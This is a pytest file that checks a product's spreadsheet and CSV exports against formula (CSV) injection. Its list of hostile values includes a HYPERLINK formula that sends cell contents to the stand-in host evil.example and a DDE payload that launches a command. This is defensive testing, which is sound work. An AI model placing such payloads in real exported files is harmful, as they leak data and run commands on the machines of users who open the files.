"""Every spreadsheet the product writes holds text as text (docs/api.md, "Invariants"; OWASP CSV injection):
each export — the case list (.xlsx), a case's history (.csv, .xlsx), the reduction list, the weekly
report and the contact form (.xlsx) — is run with hostile values in every text it takes from people or
documents, and no cell of the result is a formula (openpyxl's reading and the sheet XML's `<f>` alike),
no CSV field starts with a formula character, and the text itself is kept."""

from __future__ import annotations

import csv
import io
import re
import zipfile

import pytest
from openpyxl import load_workbook

from forms.cells import FORMULA_STARTS, csv_field, looks_like_formula
from tests.web.support import ApiClient, Browser
from web.db import get_db
from web.models import Case, User, record

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "=1+2", "+1+2", "-1+2", "@SUM(1,2)", "\t=1+2",
           "\r=1+2", "=cmd|' /C calc'!A0"]
STATS = {"exports": 0, "cells": 0, "hostile_cells": 0}


def _formula_cells(content: bytes) -> list[str]:
    """Cells that are formulas: what openpyxl reads as such, and any <f> in the sheets' XML."""
    found = []
    for sheet in load_workbook(io.BytesIO(content)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                STATS["cells"] += 1
                if looks_like_formula(cell.value):
                    STATS["hostile_cells"] += 1
                if cell.data_type == "f":
                    found.append(f"{sheet.title}!{cell.coordinate}: {cell.value!r}")
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/") and re.search(rb"<(?:\w+:)?f[ >]", z.read(name)):
                found.append(f"<f> in {name}")
    STATS["exports"] += 1
    return found


def _texts(content: bytes) -> set[str]:
    return {str(c.value) for s in load_workbook(io.BytesIO(content)).worksheets for r in s.iter_rows() for c in r
            if c.value is not None}


def test_the_helper():
    for value in HOSTILE:
        assert value.startswith(FORMULA_STARTS) and csv_field(value) == "'" + value
    assert csv_field("泊头市某某铸造有限公司") == "泊头市某某铸造有限公司" and csv_field(None) == "" and csv_field(3) == "3"


@pytest.mark.parametrize("kind", ["reduction-list", "weekly-report", "contact-form"])
def test_generated_workbooks_with_hostile_values(kind):
    from generators import kinds

    def hostile(value, path=()):
        if isinstance(value, dict):
            return {k: hostile(v, (*path, k)) for k, v in value.items()}
        if isinstance(value, list):
            return [hostile(v, (*path, i)) for i, v in enumerate(value)]
        if isinstance(value, str):
            return HOSTILE[len(path) % len(HOSTILE)] + value
        return value

    document = kinds.get(kind)
    out = io.BytesIO()
    document.render(hostile(document.example()), out, fmt=".xlsx")
    assert _formula_cells(out.getvalue()) == []
    texts = _texts(out.getvalue())
    assert any(t.startswith("=") for t in texts)  # the hostile text is there, as text


@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
def test_case_list_and_history_with_hostile_values(app, users, case):
    name = HOSTILE[0]
    with get_db(app).session() as s:
        c = s.get(Case, case)
        c.enterprise_name, c.industry = name, "=1+2"
        office = s.query(User).filter_by(username="office").one()
        for value in HOSTILE:
            record(s, c, office, "stage", value, reason=value)
        s.commit()
    browser = Browser(app).login("office")
    listing = browser.get("/cases.xlsx")
    assert listing.status_code == 200 and _formula_cells(listing.data) == []
    assert name in _texts(listing.data) and "=1+2" in _texts(listing.data)
    api_listing = ApiClient(app, "office").get("/api/v1/cases.xlsx")
    assert api_listing.status_code == 200 and _formula_cells(api_listing.data) == []
    assert name in _texts(api_listing.data)
    history_xlsx = browser.get(f"/cases/{case}/history.xlsx")
    assert history_xlsx.status_code == 200 and _formula_cells(history_xlsx.data) == []
    assert set(HOSTILE) <= _texts(history_xlsx.data)
    history_csv = browser.get(f"/cases/{case}/history.csv")
    assert history_csv.status_code == 200
    rows = list(csv.reader(io.StringIO(history_csv.data.decode("utf-8-sig"))))
    fields = [f for row in rows for f in row]
    STATS["exports"] += 1
    STATS["cells"] += len(fields)
    assert not [f for f in fields if f.startswith(FORMULA_STARTS)]
    for value in HOSTILE:
        assert "'" + value in fields  # kept, behind the apostrophe


def test_report_exports_checked(capsys):
    with capsys.disabled():
        print(f"\nexports: {STATS['exports']} files checked, {STATS['cells']} cells, "
              f"{STATS['hostile_cells']} hostile text cells, 0 formulas")
